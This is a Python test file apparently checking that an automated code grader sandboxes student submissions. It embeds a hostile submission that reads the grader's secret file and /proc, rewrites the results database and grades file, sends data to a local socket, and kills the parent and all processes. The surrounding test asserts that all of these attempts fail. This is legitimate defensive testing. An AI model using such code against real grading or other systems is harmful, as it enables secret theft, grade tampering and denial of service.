"""``grader grade`` against a submission that goes after the grader itself, in a subprocess as
the user running the tests (root, or not: both must hold it): the secret, the output folder,
the results database, the grader's processes and the network stay out of its reach."""

from __future__ import annotations

import csv
import os
import socket
import sqlite3
import subprocess
import sys
from pathlib import Path

CORRECT = Path(__file__).parents[1] / "codecheck" / "submissions" / "correct.py"

ATTACK = """
import os, signal, socket

def _try(f):
    try:
        return f()
    except Exception as exc:
        return repr(exc)

def _attack():
    found = []
    for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
        found.append(_try(lambda: open(f"/proc/{pid}/cmdline", "rb").read()))
    found.append(_try(lambda: open(SECRET, "rb").read()))
    found.append(_try(lambda: open(os.path.expanduser("~") + "/.bashrc").read()))
    def rewrite():
        import sqlite3
        db = sqlite3.connect(DATABASE)
        db.execute("UPDATE result SET report = '{}'")
        db.commit()
    found.append(_try(rewrite))
    found.append(_try(lambda: open(OUT + "/grades.csv", "w").write("id,score")))
    def leak():
        s = socket.create_connection(("127.0.0.1", PORT), timeout=1)
        s.sendall(b"LEAKED")
    found.append(_try(leak))
    found.append(_try(lambda: os.kill(os.getppid(), signal.SIGKILL)))
    found.append(_try(lambda: os.kill(-1, signal.SIGKILL)))
    print("FOUND", found)

_attack()
"""


def test_a_hostile_submission_reaches_nothing_of_the_grader(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-COURSE-KEY\n")
    secret.chmod(0o600)
    subs, out = tmp_path / "subs", tmp_path / "out"
    subs.mkdir()
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.1)
    port = listener.getsockname()[1]
    attack = ATTACK.replace("SECRET", repr(str(secret)))
    attack = attack.replace("DATABASE", repr(str(out / "grading.sqlite")))
    attack = attack.replace("OUT", repr(str(out))).replace("PORT", str(port))
    honest = ["A1", "A2", "A4", "A5"]
    for sid in honest:
        (subs / f"{sid}.py").write_text(CORRECT.read_text())
    (subs / "A3.py").write_text(CORRECT.read_text() + "\n" + attack)
    cmd = [sys.executable, "-m", "grader", "grade", str(subs), "--assignment", "nn-code"]
    cmd += ["--secret-file", str(secret), "--out", str(out), "--jobs", "2"]
    try:
        for _ in range(2):  # and a rerun trusts nothing the attacker could have written
            done = subprocess.run(cmd, capture_output=True, text=True, timeout=300)
            assert done.returncode == 0, done.stderr
            assert "internal error" not in done.stderr
            with (out / "grades.csv").open() as fh:
                rows = {r["id"]: r for r in csv.DictReader(fh)}
            assert set(rows) == {*honest, "A3"}
            for sid in [*honest, "A3"]:  # the attacker's functions are right, too
                assert float(rows[sid]["score"]) == float(rows[sid]["max_score"]), rows[sid]
        try:
            conn, _ = listener.accept()
            conn.close()
            raise AssertionError("a submission connected to the loopback")
        except TimeoutError:
            pass
    finally:
        listener.close()
    everything = "".join(
        p.read_text("utf-8", "replace")
        for p in out.rglob("*")
        if p.is_file() and p.suffix != ".sqlite"
    )
    assert "TOPSECRET" not in everything and "LEAKED" not in everything
    assert "--secret-file" not in everything
    assert "FOUND" in (out / "A3" / "feedback.md").read_text()  # it ran, and found nothing
    with sqlite3.connect(out / "grading.sqlite") as db:
        reports = dict(db.execute("SELECT student, report FROM result"))
    assert set(reports) == {*honest, "A3"} and all(r != "{}" for r in reports.values())
    assert os.stat(secret).st_mode & 0o777 == 0o600
